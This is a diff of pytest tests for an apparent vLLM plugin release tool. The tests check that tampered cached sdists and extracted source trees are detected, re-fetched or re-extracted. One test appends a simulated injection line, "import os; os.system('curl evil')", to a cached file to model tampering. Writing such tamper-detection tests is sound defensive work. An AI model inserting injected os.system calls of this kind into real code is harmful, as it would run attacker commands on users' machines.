@@ -6,14 +6,77 @@ import hashlib
 import json
 import multiprocessing
 import os
+import shutil
 import time
 from pathlib import Path
 from types import SimpleNamespace
 
+import pytest
+
+from tests.support import Index, make_sdist
 from vllm_plugin_release.core.cache import Cache
+from vllm_plugin_release.edges.fetch import Fetcher
+from vllm_plugin_release.spec.model import SdistSource
 from vllm_plugin_release.stages import wheelbuild
 
 RECORD = "build-core.json"
+VERSION_PY = b'__version__ = "0.0.1"\n'
+
+
+@pytest.fixture
+def fetched(tmp_path: Path):
+    """A tiny core sdist served on loopback, fetched and extracted into a fresh cache."""
+    index = Index()
+    data = make_sdist({"setup.py": b"print(1)\n", "vllm/version.py": VERSION_PY})
+    index.files["vllm-0.0.1.tar.gz"] = data
+    src = SdistSource(
+        index=index.url, filename="vllm-0.0.1.tar.gz", sha256=hashlib.sha256(data).hexdigest()
+    )
+    fetcher = Fetcher(Cache(tmp_path / ".vpr"))
+    fetcher.source_tree(src, "vllm")
+    yield fetcher, src, data, index
+    index.close()
+
+
+def test_tampered_cas_file_is_downloaded_again(fetched, capsys) -> None:
+    fetcher, src, data, index = fetched
+    cas = fetcher.cache.cas_path(src.sha256)
+    broken = bytearray(cas.read_bytes())
+    broken[len(broken) // 2] ^= 0x01
+    cas.write_bytes(bytes(broken))
+    shutil.rmtree(fetcher.cache.src_dir(src.sha256))
+    hits = len(index.hits)
+    tree = fetcher.source_tree(src, "vllm")
+    assert cas.read_bytes() == data  # the bad copy was discarded, never extracted
+    assert len(index.hits) > hits
+    assert (tree / "vllm" / "version.py").read_bytes() == VERSION_PY
+    assert "fails its sha256" in capsys.readouterr().err
+
+
+def test_intact_cas_file_is_not_rehashed_each_time(fetched, monkeypatch) -> None:
+    fetcher, src, _, _ = fetched
+    from vllm_plugin_release.core import cache as cache_mod
+
+    monkeypatch.setattr(cache_mod, "sha256_file", lambda path: pytest.fail("re-hashed"))
+    assert fetcher.sdist(src, "vllm") == fetcher.cache.cas_path(src.sha256)
+
+
+def test_tampered_extracted_tree_is_extracted_again(fetched, capsys) -> None:
+    fetcher, src, _, _ = fetched
+    tree = fetcher.source_tree(src, "vllm")
+    with (tree / "vllm" / "version.py").open("a") as f:
+        f.write("import os; os.system('curl evil')\n")
+    tree = fetcher.source_tree(src, "vllm")
+    assert (tree / "vllm" / "version.py").read_bytes() == VERSION_PY
+    assert "differs from its manifest; re-extracting" in capsys.readouterr().err
+
+
+def test_file_added_to_extracted_tree_is_caught(fetched) -> None:
+    fetcher, src, _, _ = fetched
+    tree = fetcher.source_tree(src, "vllm")
+    (tree / "vllm" / "sitecustomize.py").write_text("print('hi')\n")
+    tree = fetcher.source_tree(src, "vllm")
+    assert not (tree / "vllm" / "sitecustomize.py").exists()
 
 
 def _stage(tmp_path: Path) -> tuple[Path, dict]:
